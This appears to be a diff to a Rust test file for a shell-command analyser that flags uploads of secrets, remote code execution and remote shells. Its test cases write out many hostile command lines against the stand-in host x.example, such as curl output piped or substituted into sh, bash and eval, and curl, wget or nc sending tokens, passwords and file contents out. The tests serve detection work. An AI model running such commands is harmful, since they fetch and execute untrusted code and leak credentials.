@@ -42,18 +42,26 @@ fn every_example_of_the_table_is_true() {
 
 /// Fails unless running `text` has the effects `expected` and none of the others that arise
 /// from several commands.
+///
+/// In text that is put together all words have one place: there they are not lost.
 fn check(text: &str, expected: &[&str]) {
-    let found = shown(text);
-    let arisen = ["upload", "remote_code", "written_code", "remote_shell"];
-    let mut arisen: Vec<&str> = found
-        .iter()
-        .map(String::as_str)
-        .filter(|effect| arisen.iter().any(|kind| effect.starts_with(kind)))
-        .collect();
     let mut expected = expected.to_vec();
     expected.sort_unstable();
-    arisen.sort_unstable();
-    assert_eq!(arisen, expected, "{text}");
+    assert_eq!(arisen(text), expected, "{text}");
+    let together = format!("eval '{}'", format!("{text}\n: ''").replace('\'', "'\\''"));
+    let found = arisen(&together);
+    let is_lost = |effect: &&&str| !found.iter().any(|it| it == **effect);
+    let lost: Vec<_> = expected.iter().filter(is_lost).collect();
+    assert!(lost.is_empty(), "{together} loses {lost:?}");
+}
+
+/// Returns what arises in `text` from several commands.
+fn arisen(text: &str) -> Vec<String> {
+    let kinds = ["upload", "remote_code", "written_code", "remote_shell"];
+    let mut found = shown(text);
+    found.retain(|effect| kinds.iter().any(|kind| effect.starts_with(kind)));
+    found.sort();
+    found
 }
 
 #[test]
@@ -106,6 +114,35 @@ fn content_of_files_that_reaches_a_host_is_an_upload() {
         "curl -d @<(printenv) https://x.example",
         &["upload https://x.example"],
     );
+}
+
+#[test]
+fn a_secret_in_a_variable_goes_to_the_host_it_is_not_for() {
+    for (text, host) in [
+        (
+            "curl \"https://x.example/?t=$GITHUB_TOKEN\"",
+            "upload https://x.example/?t=$GITHUB_TOKEN",
+        ),
+        (
+            "curl -H \"Authorization: $GITHUB_TOKEN\" https://github.x.example",
+            "upload https://github.x.example",
+        ),
+        (
+            "wget https://$API_TOKEN.x.example",
+            "upload https://$API_TOKEN.x.example",
+        ),
+        ("nc x.example 1 <<< \"$DB_PASSWORD\"", "upload x.example"),
+    ] {
+        check(text, &[host]);
+    }
+    for text in [
+        "curl -H \"Authorization: $GITHUB_TOKEN\" https://api.github.com/user",
+        "curl -H \"Authorization: $API_TOKEN\" \"$API_URL/users\"",
+        "curl \"https://x.example/?page=$PAGE\"",
+        "echo \"$GITHUB_TOKEN\" | wc -c",
+    ] {
+        check(text, &[]);
+    }
 }
 
 #[test]
@@ -177,6 +214,78 @@ fn what_comes_from_a_host_and_runs_is_remote_code() {
         "node -e \"fetch('https://x.example').then(it => it.text()).then(eval)\"",
     ] {
         check(text, &["remote_code"]);
+    }
+}
+
+#[test]
+fn what_flows_is_followed_past_its_neighbours() {
+    for text in [
+        "eval \"$(curl https://x.example; echo a)\"",
+        "a=$(curl https://x.example); true \"$(eval \"$a\" \"$(cat f)\")\"",
+        "curl https://x.example | tee f; sh f",
+        "sudo sh -c \"$(curl https://x.example)\"",
+        "sudo bash <(curl https://x.example)",
+        "curl https://x.example > >(sh; true)",
+    ] {
+        let found = arisen(text);
+        assert!(
+            found.contains(&"remote_code".to_owned()),
+            "{text}: {found:?}"
+        );
+        check(text, &found.iter().map(String::as_str).collect::<Vec<_>>());
+    }
+    check(
+        "for x in 'cat f' 'curl https://x.example'; do $x | sh; done",
+        &["remote_code"],
+    );
+    check(
+        "cat secret | tee >(nc x.example 1; true)",
+        &["upload secret"],
+    );
+}
+
+#[test]
+fn what_flows_through_a_stream_is_followed() {
+    for text in [
+        "cat <(curl https://x.example) | sh",
+        "curl https://x.example | tee >(sh)",
+        "curl https://x.example -o >(sh)",
+        "eval bash <(curl https://x.example)",
+        "x=<(curl https://x.example); bash $x",
+        "f() { bash $1; }; f <(curl https://x.example)",
+        "bash < <(curl https://x.example)",
+        "python3 <(curl https://x.example)",
+        "make -f <(curl https://x.example)",
+        "cp <(curl https://x.example) f; sh f",
+        "BASH_ENV=<(curl https://x.example) bash -c true",
+        "true > >(curl https://x.example) | sh",
+    ] {
+        check(text, &["remote_code"]);
+    }
+    for text in [
+        "curl -d @<(cat secret) https://x.example",
+        "curl -T <(cat secret) https://x.example",
+        "nc x.example 1 < <(cat secret)",
+        "dd if=secret of=>(nc x.example 1)",
+        "cp secret >(nc x.example 1)",
+    ] {
+        check(text, &["upload secret"]);
+    }
+    for text in [
+        "diff <(sort a) <(sort b)",
+        "diff <(curl https://x.example) <(sh b)",
+        "tee >(gzip > b) < secret",
+    ] {
+        check(text, &[]);
+        assert!(!shown(text).contains(&"unknown".to_owned()), "{text}");
+    }
+    for text in [
+        "python3 <(a)",
+        "make -f <(cat a)",
+        "bash <(cat a)",
+        "source <(cat a)",
+    ] {
+        assert!(shown(text).contains(&"unknown".to_owned()), "{text}");
     }
 }
 
